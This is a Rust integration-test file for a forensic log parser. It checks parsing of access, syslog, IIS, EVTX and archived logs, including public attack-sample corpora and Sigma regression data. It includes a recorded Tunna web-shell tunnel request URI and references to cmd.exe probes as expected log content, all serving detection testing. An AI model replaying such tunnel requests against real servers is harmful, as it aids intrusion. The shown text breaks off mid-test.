//! Integration tests: the real corpora in `../shared/corpora` (when present) and end-to-end
//! reads through files, compression, archives and the parallel API.

use spoor_event::{Event, FileStats, Position, Value};
use spoor_input::{discover, read_all, read_path, InputFormat, ReadOptions};
use std::io::Write;
use std::path::{Path, PathBuf};

fn corpora(test: &str) -> Option<PathBuf> {
    spoor_event::shared_corpora(test)
}

fn read_dir_all(dir: &Path, opts: &ReadOptions) -> (Vec<Event>, Vec<FileStats>) {
    let (files, problems) = discover(&[dir.to_path_buf()], opts);
    assert!(problems.is_empty(), "{problems:?}");
    let (states, stats) = read_all(&files, opts, Vec::new, |v: &mut Vec<Event>, e| v.push(e));
    (states.into_iter().flatten().collect(), stats)
}

fn text(e: &Event, name: &str) -> Option<String> {
    e.get(name)
        .and_then(|v| v.as_text())
        .map(|t| t.into_owned())
}

#[test]
fn sotm34_access_logs_parse_with_zero_unparsed() {
    let Some(c) = corpora("sotm34_access_logs_parse_with_zero_unparsed") else {
        return;
    };
    let opts = ReadOptions {
        globs: vec!["access_log*".into()],
        ..ReadOptions::default()
    };
    let (events, stats) = read_dir_all(&c.join("web/sotm34/http"), &opts);
    assert_eq!(stats.len(), 7, "{stats:?}");
    let mut total = 0;
    for s in &stats {
        assert_eq!(s.format, "access", "{s:?}");
        assert_eq!(s.unparsed, 0, "{s:?}");
        assert!(s.error.is_none(), "{s:?}");
        assert!(s.events > 0);
        total += s.events;
    }
    println!("sotm34 access: {total} events in {} files", stats.len());
    assert_eq!(events.len() as u64, total);
    for e in &events {
        assert!(e.timestamp.is_some());
        assert!(e.get("c-ip").is_some() && e.get("sc-status").is_some());
        assert_eq!(e.logsource.category.as_deref(), Some("webserver"));
        assert!(e.raw.is_some());
    }
    // A labelled attack: the cmd.exe probes of the Nimda-style scans.
    assert!(events
        .iter()
        .any(|e| text(e, "cs-uri-stem").is_some_and(|u| u.ends_with("cmd.exe"))));
}

#[test]
fn sotm34_error_and_syslogs() {
    let Some(c) = corpora("sotm34_error_and_syslogs") else {
        return;
    };
    let opts = ReadOptions {
        globs: vec!["error_log*".into(), "ssl_error_log*".into()],
        ..ReadOptions::default()
    };
    let (_, stats) = read_dir_all(&c.join("web/sotm34/http"), &opts);
    for s in &stats {
        println!(
            "{} {} events={} unparsed={} {:?}",
            s.path,
            s.format,
            s.events,
            s.unparsed,
            s.unparsed_samples.first()
        );
        assert_eq!(s.format, "weberror", "{s:?}");
        assert_eq!(s.unparsed, 0, "{s:?}");
        assert!(s.events > 0);
        assert!(s.timezone_assumed);
    }
    let opts = ReadOptions {
        globs: vec!["secure*".into(), "messages*".into(), "maillog*".into()],
        syslog_year: Some(2005),
        ..ReadOptions::default()
    };
    let (events, stats) = read_dir_all(&c.join("web/sotm34/syslog"), &opts);
    for s in &stats {
        println!(
            "{} {} events={} unparsed={} {:?}",
            s.path,
            s.format,
            s.events,
            s.unparsed,
            s.unparsed_samples.first()
        );
        assert_eq!(s.format, "syslog", "{s:?}");
        assert_eq!(s.unparsed, 0, "{s:?}");
    }
    let logins: Vec<&Event> = events
        .iter()
        .filter(|e| text(e, "event.action").as_deref() == Some("ssh_login"))
        .collect();
    println!(
        "sotm34 syslog: {} events, {} ssh logins",
        events.len(),
        logins.len()
    );
    assert!(!logins.is_empty());
    assert!(logins
        .iter()
        .all(|e| e.logsource.service.as_deref() == Some("sshd")));
    assert!(events.iter().all(|e| e
        .timestamp
        .is_some_and(|t| t.format("%Y").to_string() == "2005")));
}

#[test]
fn tunna_iis_log_parses() {
    let Some(c) = corpora("tunna_iis_log_parses") else {
        return;
    };
    let p = c.join("evtx-attack-samples/Command and Control/Tunna_rdp_tunnel_IIS.log");
    let mut events = Vec::new();
    let stats = read_path(&p, &ReadOptions::default(), |e| events.push(e));
    let s = &stats[0];
    println!("tunna: {s:?}");
    assert_eq!(s.format, "iis");
    assert_eq!(s.unparsed, 0, "{s:?}");
    assert!(s.events > 10);
    let e = &events[0];
    assert_eq!(e.logsource.product.as_deref(), Some("iis"));
    assert_eq!(
        text(e, "cs-uri").as_deref(),
        Some("/erp/conn.aspx?proxy&port=3389&ip=127.0.0.1")
    );
    assert_eq!(e.get("sc-status"), Some(&Value::Int(200)));
}

#[test]
fn all_evtx_samples_read_without_error() {
    let Some(c) = corpora("all_evtx_samples_read_without_error") else {
        return;
    };
    let opts = ReadOptions {
        globs: vec!["*.evtx".into()],
        ..ReadOptions::default()
    };
    let (files, problems) = discover(&[c.join("evtx-attack-samples")], &opts);
    assert!(problems.is_empty());
    let (counts, stats) = read_all(
        &files,
        &opts,
        || (0u64, 0u64),
        |s, e| {
            s.0 += 1;
            if e.get("EventID").is_some_and(|v| matches!(v, Value::Int(_)))
                && e.get("Channel").is_some()
                && matches!(e.origin.position, Position::Record(_))
                && e.timestamp.is_some()
            {
                s.1 += 1;
            }
        },
    );
    let events: u64 = counts.iter().map(|c| c.0).sum();
    let well_formed: u64 = counts.iter().map(|c| c.1).sum();
    let unparsed: u64 = stats.iter().map(|s| s.unparsed).sum();
    let errors: Vec<_> = stats.iter().filter(|s| s.error.is_some()).collect();
    println!(
        "evtx: {} files, {events} events, {unparsed} unparsed records, {} file errors",
        stats.len(),
        errors.len()
    );
    assert!(stats.len() >= 270, "{}", stats.len());
    assert!(errors.is_empty(), "{errors:?}");
    assert_eq!(events, well_formed);
    assert!(events > 1000);
}

#[test]
fn evtx_sample_has_sigma_names() {
    let Some(c) = corpora("evtx_sample_has_sigma_names") else {
        return;
    };
    let (files, _) = discover(&[c.join("evtx-attack-samples")], &ReadOptions::default());
    let sysmon: Vec<_> = files
        .iter()
        .filter(|f| f.display.ends_with(".evtx"))
        .collect();
    let mut found = false;
    for f in sysmon {
        read_path(&f.path, &ReadOptions::default(), |e| {
            if e.logsource.category.as_deref() == Some("process_creation") && !found {
                assert_eq!(e.logsource.service.as_deref(), Some("sysmon"));
                assert!(e.get("Image").is_some(), "{e:?}");
                assert!(e.get("CommandLine").is_some());
                assert!(e.get("Provider_Name").is_some());
                assert!(e.get("Computer").is_some());
                found = true;
            }
        });
        if found {
            break;
        }
    }
    assert!(found, "no Sysmon process creation in the samples");
}

#[test]
fn otrf_zip_reads_windows_json() {
    let Some(c) = corpora("otrf_zip_reads_windows_json") else {
        return;
    };
    let p = c.join("otrf/atomic-windows-host/collection__msf_record_mic.zip");
    let mut n = 0u64;
    let mut sysmon = 0u64;
    let stats = read_path(&p, &ReadOptions::default(), |e| {
        n += 1;
        if e.get("EventID").is_some_and(|v| matches!(v, Value::Int(_)))
            && e.get("Channel").is_some()
            && e.logsource.product.as_deref() == Some("windows")
        {
            sysmon += u64::from(e.logsource.service.as_deref() == Some("sysmon"));
        }
    });
    println!("otrf zip: {stats:?}");
    assert_eq!(stats[0].format, "zip");
    assert!(stats[0].error.is_none());
    let entry = &stats[1];
    assert!(entry
        .path
        .ends_with("!msf_record_mic_2020-06-09225055.json"));
    assert_eq!(entry.format, "json");
    assert_eq!(entry.unparsed, 0, "{entry:?}");
    assert_eq!(entry.events, n);
    assert!(sysmon > 0);
}

#[test]
fn otrf_zips_with_appledouble_stubs_count_them() {
    let Some(c) = corpora("otrf_zips_with_appledouble_stubs_count_them") else {
        return;
    };
    let (files, _) = discover(
        &[c.join("otrf/atomic-windows-host")],
        &ReadOptions::default(),
    );
    // Find a zip whose central directory lists a stub, cheaply: by its bytes.
    let with_stub = files.iter().find(|f| {
        f.size < 30 << 20
            && std::fs::read(&f.path).is_ok_and(|b| b.windows(9).any(|w| w == b"__MACOSX/"))
    });
    let Some(f) = with_stub else {
        println!("no zip with AppleDouble stubs under 30 MB; nothing to check");
        return;
    };
    let stats = read_path(&f.path, &ReadOptions::default(), |_| {});
    println!("{stats:?}");
    assert!(stats[0].skipped > 0);
    assert!(stats.iter().skip(1).all(|s| !s.path.contains("__MACOSX")));
}

// ---- synthetic end-to-end tests (no corpora needed) ----

const ACCESS: &str =
    "1.2.3.4 - - [01/Jan/2024:00:00:00 +0000] \"GET /a?x=%2524 HTTP/1.1\" 200 5 \"-\" \"ua\"\n";

fn write(dir: &Path, name: &str, bytes: &[u8]) -> PathBuf {
    let p = dir.join(name);
    std::fs::write(&p, bytes).unwrap();
    p
}

#[test]
fn compressed_files_are_read_by_magic() {
    let dir = tempfile::tempdir().unwrap();
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    gz.write_all(ACCESS.repeat(3).as_bytes()).unwrap();
    let p = write(dir.path(), "renamed.txt", &gz.finish().unwrap());
    let mut n = 0;
    let stats = read_path(&p, &ReadOptions::default(), |_| n += 1);
    assert_eq!(stats[0].format, "gzip+access");
    assert_eq!((stats[0].events, n), (3, 3));
    // Truncated gzip: what was read before the fault is counted, and the fault is reported.
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::none());
    gz.write_all(ACCESS.repeat(2000).as_bytes()).unwrap();
    let full = gz.finish().unwrap();
    let p = write(dir.path(), "cut.gz", &full[..full.len() / 2]);
    let stats = read_path(&p, &ReadOptions::default(), |_| {});
    assert!(stats[0].events > 100, "{:?}", stats[0]);
    assert!(stats[0].error.is_some(), "{:?}", stats[0]);
}

fn make_zip(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let o = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated);
    for (name, data) in entries {
        w.start_file(*name, o).unwrap();
        w.write_all(data).unwrap();
    }
    w.finish().unwrap().into_inner()
}

#[test]
fn zip_entries_stubs_and_truncation() {
    let dir = tempfile::tempdir().unwrap();
    let json = b"{\"EventID\":4104,\"Channel\":\"Microsoft-Windows-PowerShell/Operational\",\"ScriptBlockText\":\"iex\"}\n";
    let data = make_zip(&[
        ("logs/a.json", json),
        ("__MACOSX/logs/._a.json", b"\x00\x05\x16\x07junk"),
        ("logs/._b.json", b"\x00\x05\x16\x07junk"),
        ("logs/access.log", ACCESS.as_bytes()),
        ("logs/README.txt", b"Collected by the on-call responder.\n"),
    ]);
    let p = write(dir.path(), "case.zip", &data);
    let mut evs = Vec::new();
    let stats = read_path(&p, &ReadOptions::default(), |e| evs.push(e));
    assert_eq!(stats.len(), 4, "{stats:?}");
    // An entry that is no log is skipped and counted, not an error (issue 14).
    assert!(stats[3].path.ends_with("!logs/README.txt"));
    assert!(stats[3].skipped_not_log && stats[3].error.is_none());
    assert_eq!(stats[0].skipped, 2);
    assert!(stats[1].path.ends_with("case.zip!logs/a.json"));
    assert_eq!(evs[0].logsource.category.as_deref(), Some("ps_script"));
    assert_eq!(&*evs[0].origin.path, stats[1].path.as_str());
    assert_eq!(stats[2].format, "access");
    // Truncated: the central directory is gone; local headers are walked.
    let big: Vec<u8> = ACCESS.repeat(500).into_bytes();
    let data = make_zip(&[("one.log", &big), ("two.log", &big)]);
    let p = write(dir.path(), "cut.zip", &data[..data.len() * 3 / 4]);
    let stats = read_path(&p, &ReadOptions::default(), |_| {});
    println!("{stats:?}");
    assert!(stats[0].error.is_some());
    assert_eq!(stats[1].events, 500);
    // Garbage with a zip signature: an error, not a panic.
    let p = write(dir.path(), "junk.zip", b"PK\x03\x04garbage");
    let stats = read_path(&p, &ReadOptions::default(), |_| {});
    assert!(stats[0].error.is_some());
}

#[test]
fn large_file_is_chunked_with_exact_line_numbers() {
    let dir = tempfile::tempdir().unwrap();
    let mut body = String::new();
    for i in 0..20_000 {
        if i % 997 == 0 {
            body.push_str("garbage line\n");
        } else if i % 1009 == 0 {
            body.push('\n');
        } else {
            body.push_str(&format!(
                "10.0.0.{} - - [01/Jan/2024:00:00:00 +0000] \"GET /p{i} HTTP/1.1\" 200 {i} \"-\" \"ua\"\n",
                i % 250
            ));
        }
    }
    let p = write(dir.path(), "big.log", body.as_bytes());
    let whole = ReadOptions::default();
    let split = ReadOptions {
        split_bytes: 256 * 1024,
        ..ReadOptions::default()
    };
    let files = vec![spoor_input::InputFile::new(&p)];
    let run = |opts: &ReadOptions| {
        let (states, stats) = read_all(&files, opts, Vec::new, |v: &mut Vec<(u64, String)>, e| {
            v.push((
                e.origin.position.number(),
                text(&e, "cs-uri-stem").unwrap_or_default(),
            ))
        });
        (states, stats)
    };
    let (s1, st1) = run(&whole);
    let (s2, st2) = run(&split);
    assert_eq!(s1.len(), 1);
    assert!(s2.len() >= 4, "{} chunks", s2.len());
    assert_eq!(st2.len(), 1);
    let a: Vec<_> = s1.into_iter().flatten().collect();
    let mut b: Vec<_> = s2.into_iter().flatten().collect();
    b.sort();
    let mut a_sorted = a.clone();
    a_sorted.sort();
    assert_eq!(a_sorted, b);
    for (line, stem) in &a {
        // Line n holds request /p{n-1}.
        assert_eq!(stem, &format!("/p{}", line - 1));
    }
    assert_eq!(st1[0].events, st2[0].events);
    assert_eq!(st1[0].unparsed, st2[0].unparsed);
    assert_eq!(st1[0].skipped, st2[0].skipped);
    assert_eq!(st1[0].unparsed_samples, st2[0].unparsed_samples);
}

/// One big IIS log is read in chunks too, each with the columns of the `#Fields:` directive in
/// force where it starts (the columns change twice in the file, as after IIS restarts).
#[test]
fn large_iis_log_is_chunked_with_its_directives() {
    let dir = tempfile::tempdir().unwrap();
    let mut body = String::from("#Software: Microsoft Internet Information Services 10.0\n");
    let mut expected_fields = 0;
    for i in 0..30_000 {
        if i % 10_000 == 0 {
            // Alternate column orders: a chunk read with the wrong directive gets wrong fields.
            expected_fields += 1;
            if expected_fields % 2 == 1 {
                body.push_str(
                    "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query c-ip sc-status\n",
                );
            } else {
                body.push_str(
                    "#Fields: date time c-ip cs-method cs-uri-stem cs-uri-query s-ip sc-status\n",
                );
            }
        }
        if i % 997 == 0 {
            body.push_str("a bad line\n");
            continue;
        }
        if expected_fields % 2 == 1 {
            body.push_str(&format!(
                "2024-07-12 10:00:00 10.0.0.1 GET /p{i} - 192.168.0.{} 200\n",
                i % 250
            ));
        } else {
            body.push_str(&format!(
                "2024-07-12 10:00:00 192.168.0.{} GET /p{i} - 10.0.0.1 200\n",
                i % 250
            ));
        }
    }
    let p = write(dir.path(), "u_ex240712.log", body.as_bytes());
    let split = ReadOptions {
        split_bytes: 128 * 1024,
        ..ReadOptions::default()
    };
    let files = vec![spoor_input::InputFile::new(&p)];
    let run = |opts: &ReadOptions| {
        read_all(
            &files,
            opts,
            Vec::new,
            |v: &mut Vec<(u64, String, String)>, e| {
                v.push((
                    e.origin.position.number(),
                    text(&e, "cs-uri-stem").unwrap_or_default(),
                    text(&e, "c-ip").unwrap_or_default(),
                ))
            },
        )
    };
    let (s1, st1) = run(&ReadOptions::default());
    let (s2, st2) = run(&split);
    assert_eq!(s1.len(), 1);
    assert!(s2.len() >= 4, "{} chunks", s2.len());
    let a: Vec<_> = s1.into_iter().flatten().collect();
    let b: Vec<_> = s2.into_iter().flatten().collect();
    assert_eq!(a, b);
    assert!(
        a.iter().all(|(_, _, ip)| ip.starts_with("192.168.0.")),
        "client column mixed up"
    );
    assert_eq!(a.len() as u64, st1[0].events);
    assert_eq!(st1[0].events, st2[0].events);
    assert_eq!(st1[0].unparsed, st2[0].unparsed);
    assert_eq!(st1[0].skipped, st2[0].skipped);
    assert_eq!(st1[0].unparsed_samples, st2[0].unparsed_samples);
}

#[test]
fn forced_format_and_stats_in_path_order() {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "b.log", ACCESS.as_bytes());
    write(
        dir.path(),
        "a.log",
        b"Mar  1 00:00:00 h sshd[1]: Accepted password for bob from 1.2.3.4 port 22 ssh2\n",
    );
    write(dir.path(), "c.bin", b"\x00\x01\x02");
    let opts = ReadOptions::default();
    let (files, _) = discover(&[dir.path().to_path_buf()], &opts);
    let (_, stats) = read_all(&files, &opts, || (), |_, _| {});
    let names: Vec<_> = stats
        .iter()
        .map(|s| {
            Path::new(&s.path)
                .file_name()
                .unwrap()
                .to_string_lossy()
                .into_owned()
        })
        .collect();
    assert_eq!(names, vec!["a.log", "b.log", "c.bin"]);
    assert_eq!(stats[0].format, "syslog");
    // Found by walking and no log: skipped, not an error (issue 14).
    assert!(stats[2].error.is_none() && stats[2].skipped_not_log);
    assert_eq!(stats[2].format, "unknown");
    let forced = ReadOptions {
        format: Some(InputFormat::Syslog),
        ..ReadOptions::default()
    };
    let (_, stats) = read_all(&files, &forced, || (), |_, _| {});
    assert_eq!(stats[1].format, "syslog");
    assert_eq!(stats[1].unparsed, 1);
}

#[test]
fn streams_read_like_files() {
    let zip = make_zip(&[
        ("x/access.log", ACCESS.as_bytes()),
        ("x/._access.log", b"stub"),
    ]);
    let mut n = 0;
    let stats = spoor_input::read_reader("-", &zip[..], &ReadOptions::default(), |_| n += 1);
    assert_eq!(stats.len(), 2, "{stats:?}");
    assert_eq!(stats[0].skipped, 1);
    assert!(stats[0].error.is_none(), "{stats:?}");
    assert_eq!(stats[1].path, "-!x/access.log");
    assert_eq!(n, 1);
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    gz.write_all(b"{\"a\":1}\n{\"a\":2}\n").unwrap();
    let bytes = gz.finish().unwrap();
    let stats = spoor_input::read_reader("-", &bytes[..], &ReadOptions::default(), |_| {});
    assert_eq!(
        (stats[0].format.as_str(), stats[0].events),
        ("gzip+json", 2)
    );
}

#[test]
fn stats_come_back_in_path_order() {
    let dir = tempfile::tempdir().unwrap();
    let a = write(dir.path(), "a.log", ACCESS.as_bytes());
    let b = write(dir.path(), "b.log", ACCESS.as_bytes());
    let files = vec![
        spoor_input::InputFile::new(&b),
        spoor_input::InputFile::new(&a),
    ];
    let (_, stats) = read_all(&files, &ReadOptions::default(), || (), |_, _| {});
    assert!(stats[0].path.ends_with("a.log") && stats[1].path.ends_with("b.log"));
}

/// `logsource:` keys of a Sigma rule, read from its text (a plain scan, enough for SigmaHQ's
/// uniform layout; the Sigma engine has the real parser).
fn rule_logsource(rule: &str) -> Vec<(String, String)> {
    let mut out = Vec::new();
    let mut inside = false;
    for line in rule.lines() {
        if line.starts_with("logsource:") {
            inside = true;
            continue;
        }
        if inside {
            if !line.starts_with(' ') {
                break;
            }
            if let Some((k, v)) = line.trim().split_once(':') {
                let k = k.trim();
                if matches!(k, "product" | "category" | "service") {
                    let v = v.split('#').next().unwrap_or("").trim().trim_matches('\'');
                    out.push((k.to_string(), v.to_string()));
                }
            }
        }
    }
    out
}

/// Field names in a rule's `detection:` (keys before `|modifiers:`), by the same plain scan.
fn rule_fields(rule: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut inside = false;
    for line in rule.lines() {
        if line.starts_with("detection:") {
            inside = true;
            continue;
        }
        if !inside {
            continue;
        }
        if !line.starts_with(' ') && !line.trim().is_empty() {
            break;
        }
        let indent = line.len() - line.trim_start().len();
        let t = line.trim_start().trim_start_matches("- ");
        if indent < 8 && !line.trim_start().starts_with("- ") {
            continue;
        }
        // A key is unquoted and its colon ends the line or is followed by a space; list values
        // such as `- 'C:\x'` or `- https://x` are not keys.
        if t.starts_with('\'') || t.starts_with('"') {
            continue;
        }
        let Some((key, rest)) = t.split_once(':') else {
            continue;
        };
        if !(rest.is_empty() || rest.starts_with(' '))
            || line.trim_start().starts_with("- ") && rest.is_empty()
        {
            continue;
        }
        let field = key.split('|').next().unwrap_or("").trim();
        if !field.is_empty()
            && field
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || "_.-".contains(c))
            && !out.iter().any(|f| f == field)
        {
            out.push(field.to_string());
        }
    }
    out
}

fn find_rule(dir: &Path, name: &str) -> Option<PathBuf> {
    for e in walkdir::WalkDir::new(dir).into_iter().flatten() {
        if e.file_name().to_string_lossy() == format!("{name}.yml") {
            return Some(e.into_path());
        }
    }
    None
}

#[test]
fn sigma_regression_samples_get_the_rules_logsource() {
    let Some(c) = corpora("sigma_regression_samples_get_the_rules_logsource") else {
        return;
    };
    let sigma = c.join("sigma");
    let opts = ReadOptions::default();
    let (files, _) = discover(
        &[sigma.join("regression_data")],
        &ReadOptions {
            globs: vec!["*.evtx".into()],
            ..ReadOptions::default()
        },
    );
    let mut checked = 0;
    let mut misses = Vec::new();
    let mut field_gaps: Vec<String> = Vec::new();
    let mut fields_checked = 0usize;
    for f in &files {
        // regression_data/<rules dir>/.../<rule name>/<id>.evtx
        let rel = f.path.strip_prefix(sigma.join("regression_data")).unwrap();
        let top = rel.components().next().unwrap().as_os_str().to_owned();
        let rule_name = f
            .path
            .parent()
            .unwrap()
            .file_name()
            .unwrap()
            .to_string_lossy()
            .into_owned();
        let Some(rule) = find_rule(&sigma.join(&top), &rule_name) else {
            continue;
        };
        let text = std::fs::read_to_string(&rule).unwrap();
        let want = rule_logsource(&text);
        let fields = rule_fields(&text);
        fields_checked += fields.len();
        let mut present = vec![false; fields.len()];
        let mut agree = false;
        let mut seen = Vec::new();
        let stats = read_path(&f.path, &opts, |e| {
            let ls = &e.logsource;
            let ok = want.iter().all(|(k, v)| {
                let have = match k.as_str() {
                    "product" => ls.product.as_deref(),
                    "category" => ls.category.as_deref(),
                    _ => ls.service.as_deref(),
                };
                // The engine treats registry_* as registry_event too.
                have == Some(v.as_str())
                    || (v == "registry_event" && have.is_some_and(|h| h.starts_with("registry_")))
            });
            agree |= ok;
            for (i, f) in fields.iter().enumerate() {
                if e.get(f).is_some() {
                    present[i] = true;
                }
            }
            if seen.len() < 3 {
                seen.push(format!(
                    "{:?}/{:?}/{:?}",
                    ls.product, ls.category, ls.service
                ));
            }
        });
        assert!(stats[0].error.is_none(), "{stats:?}");
        checked += 1;
        if !agree {
            misses.push(format!(
                "{rule_name}: rule wants {want:?}, events have {seen:?}"
            ));
        }
        let absent: Vec<&str> = fields
            .iter()
            .zip(&present)
            .filter(|(_, p)| !**p)
            .map(|(f, _)| f.as_str())
            .collect();
        if !absent.is_empty() {
            field_gaps.push(format!("{rule_name}: no event has {absent:?}"));
        }
    }
    println!(
        "{} samples lack some field their rule names:",
        field_gaps.len()
    );
    for g in &field_gaps {
        println!("  {g}");
    }
    println!(
        "regression samples: {checked} checked, {} without an event in the rule's log source",
        misses.len()
    );
    for m in &misses {
        println!("  {m}");
    }
    assert!(checked > 150, "{checked}");
    assert!(misses.is_empty(), "{misses:#?}");
    println!("{fields_checked} rule field names looked for");
    assert!(fields_checked > 200, "{fields_checked}");
    assert!(field_gaps.is_empty(), "{field_gaps:#?}");
}

#[test]
fn damaged_evtx_gives_errors_not_panics() {
    let Some(c) = corpora("damaged_evtx_gives_errors_not_panics") else {
        return;
    };
    let (files, _) = discover(
        &[c.join("evtx-attack-samples")],
        &ReadOptions {
            globs: vec!["*.evtx".into()],
            ..ReadOptions::default()
        },
    );
    let dir = tempfile::tempdir().unwrap();
    let mut damaged = 0;
    for (i, f) in files.iter().take(40).enumerate() {
        let bytes = std::fs::read(&f.path).unwrap();
        // Cut short, and with a stretch of chunk data overwritten.
        let cut = write(
            dir.path(),
            &format!("cut{i}.evtx"),
            &bytes[..bytes.len() * 2 / 3],
        );
        let mut smashed = bytes.clone();
        let mid = smashed.len() / 2;
        for (k, b) in smashed.iter_mut().skip(mid).take(4096).enumerate() {
            *b = (k * 31 % 251) as u8;
        }
        let smashed = write(dir.path(), &format!("smashed{i}.evtx"), &smashed);
        let whole = read_path(&f.path, &ReadOptions::default(), |_| {});
        for (p, is_cut) in [(cut, true), (smashed, false)] {
            let stats = read_path(&p, &ReadOptions::default(), |_| {});
            assert_eq!(stats.len(), 1);
            assert_eq!(stats[0].format, "evtx");
            let fault = stats[0].error.is_some() || stats[0].unparsed > 0;
            if is_cut {
                // A cut that loses records must say so (a cut through unused chunks loses none).
                assert!(
                    fault || stats[0].events == whole[0].events,
                    "{:?}",
                    stats[0]
                );
            }
            damaged += usize::from(fault);
        }
    }
    println!("damaged evtx copies with a reported fault: {damaged} of 80");
    assert!(damaged > 0);
}

#[test]
fn evtx_and_its_json_export_give_the_same_events() {
    let Some(c) = corpora("evtx_and_its_json_export_give_the_same_events") else {
        return;
    };
    let (files, _) = discover(
        &[c.join("evtx-attack-samples")],
        &ReadOptions {
            globs: vec!["*.evtx".into()],
            ..ReadOptions::default()
        },
    );
    let dir = tempfile::tempdir().unwrap();
    let mut compared = 0;
    for f in files.iter().step_by(7) {
        // The evtx_dump-style JSON export of the file, one record per line.
        let mut parser = evtx::EvtxParser::from_path(&f.path).unwrap();
        let mut ndjson = String::new();
        for r in parser.records_json_value().flatten() {
            ndjson.push_str(&r.data.to_string());
            ndjson.push('\n');
        }
        let p = write(dir.path(), "export.json", ndjson.as_bytes());
        let mut from_evtx = Vec::new();
        read_path(&f.path, &ReadOptions::default(), |e| from_evtx.push(e));
        let mut from_json = Vec::new();
        let stats = read_path(&p, &ReadOptions::default(), |e| from_json.push(e));
        assert_eq!(stats[0].unparsed, 0, "{stats:?}");
        assert_eq!(from_evtx.len(), from_json.len());
        for (a, b) in from_evtx.iter().zip(&from_json) {
            assert_eq!(a.fields, b.fields);
            assert_eq!(a.logsource, b.logsource);
            assert_eq!(a.timestamp, b.timestamp);
            compared += 1;
        }
    }
    println!("{compared} events identical from EVTX and from its JSON export");
    assert!(compared > 50, "{compared}");
}

/// Issue 14: Security 4688 (and 5156) are also Sigma's `process_creation` (`network_connection`),
/// under Sysmon's field names beside their own, and keep service `security`.
#[test]
fn security_4688_is_process_creation_with_sysmon_names() {
    let Some(c) = corpora("security_4688_is_process_creation_with_sysmon_names") else {
        return;
    };
    let path = c.join(
        "evtx-attack-samples/Privilege Escalation/NTLM2SelfRelay-med0x2e-security_4624_4688.evtx",
    );
    let mut seen = Vec::new();
    let stats = read_path(&path, &ReadOptions::default(), |e| {
        if e.get("EventID") == Some(&Value::Int(4688)) {
            seen.push(e);
        }
    });
    assert!(stats[0].error.is_none(), "{stats:?}");
    let e = seen.first().expect("the sample holds a 4688");
    let ls = &e.logsource;
    assert_eq!(
        (
            ls.product.as_deref(),
            ls.category.as_deref(),
            ls.service.as_deref()
        ),
        (Some("windows"), Some("process_creation"), Some("security"))
    );
    assert_eq!(text(e, "Image"), text(e, "NewProcessName"));
    assert!(text(e, "Image").unwrap().ends_with("\\notepad.exe"));
    assert!(text(e, "ParentImage").unwrap().ends_with("\\WmiPrvSE.exe"));
    assert_eq!(text(e, "ParentImage"), text(e, "ParentProcessName"));
    assert_eq!(e.get("ProcessId"), Some(&Value::Int(0x1dc)));
    assert_eq!(e.get("ParentProcessId"), Some(&Value::Int(0xe8c)));
    assert_eq!(text(e, "NewProcessId").as_deref(), Some("0x1dc"));
    assert_eq!(
        text(e, "User").as_deref(),
        Some("WINLAB.LOCAL\\Administrator")
    );
    assert_eq!(text(e, "IntegrityLevel").as_deref(), Some("High"));

    // All of the corpus: every 4688 is a process creation with an Image, every 5156 a network
    // connection with a destination; counts printed for the record. (Checked after the read: the
    // EVTX reader turns a panic inside it, an assertion too, into the file's error.)
    let (files, _) = discover(&[c.join("evtx-attack-samples")], &ReadOptions::default());
    let (mut n4688, mut n5156, mut n4663_file) = (0u64, 0u64, 0u64);
    let mut wrong = Vec::new();
    for f in files.iter().filter(|f| f.display.ends_with(".evtx")) {
        read_path(&f.path, &ReadOptions::default(), |e| {
            let cat = e.logsource.category.as_deref();
            let security = text(&e, "Channel").as_deref() == Some("Security");
            let ok = match e.get("EventID") {
                Some(Value::Int(4688)) if security => {
                    n4688 += 1;
                    cat == Some("process_creation")
                        && e.logsource.service.as_deref() == Some("security")
                        && text(&e, "Image") == text(&e, "NewProcessName")
                        && matches!(e.get("ProcessId"), Some(Value::Int(_)))
                        && e.get("User").is_some()
                }
                Some(Value::Int(5156)) if security => {
                    n5156 += 1;
                    cat == Some("network_connection")
                        && text(&e, "DestinationIp") == text(&e, "DestAddress")
                        && e.get("Initiated").is_some()
                }
                Some(Value::Int(4663)) if cat == Some("file_access") => {
                    n4663_file += 1;
                    text(&e, "ObjectType").as_deref() == Some("File")
                        && text(&e, "FileName") == text(&e, "ObjectName")
                }
                _ => true,
            };
            if !ok {
                wrong.push(e);
            }
        });
    }
    assert!(wrong.is_empty(), "{:?}", wrong.first());
    println!("Security 4688: {n4688}, 5156: {n5156}, 4663 on files: {n4663_file}");
    assert!(n4688 > 0 && n5156 > 0);
}

/// Issue 14: `source.record` is the event's EventRecordID, not the file's record number; they
/// differ in exported logs (this sample's first record is EventRecordID 3139859).
#[test]
fn evtx_record_is_the_event_record_id() {
    let Some(c) = corpora("evtx_record_is_the_event_record_id") else {
        return;
    };
    let path = c.join("evtx-attack-samples/Credential Access/4794_DSRM_password_change_t1098.evtx");
    let mut records = Vec::new();
    read_path(&path, &ReadOptions::default(), |e| {
        let id = match e.get("EventRecordID") {
            Some(Value::Int(i)) => Some(*i),
            _ => None,
        };
        records.push((e.origin.position, id));
    });
    assert!(!records.is_empty());
    for (pos, id) in &records {
        let id = id.expect("every record has an EventRecordID");
        assert_eq!(*pos, Position::Record(id as u64));
    }
    // The file's own numbering starts at 1; the log it was cut from did not.
    assert_ne!(records[0].0, Position::Record(1));
}

/// Issue 14: a README in a walked folder is skipped and counted, not an error; the same file
/// named on the command line stays an error.
#[test]
fn walked_non_log_files_are_skipped_not_errors() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let readme = write(
        d,
        "README.md",
        b"# Evidence\n\nCollected from web01 on 2024-07-08.\n",
    );
    write(
        d,
        "access.log",
        b"10.0.0.1 - - [08/Jul/2024:10:00:00 +0000] \"GET / HTTP/1.1\" 200 5 \"-\" \"x\"\n",
    );
    let opts = ReadOptions::default();
    let (files, problems) = discover(&[d.to_path_buf()], &opts);
    assert!(problems.is_empty());
    assert!(files.iter().all(|f| !f.explicit));
    let (_, stats) = read_all(&files, &opts, || 0u64, |n, _| *n += 1);
    let by_name = |name: &str| {
        stats
            .iter()
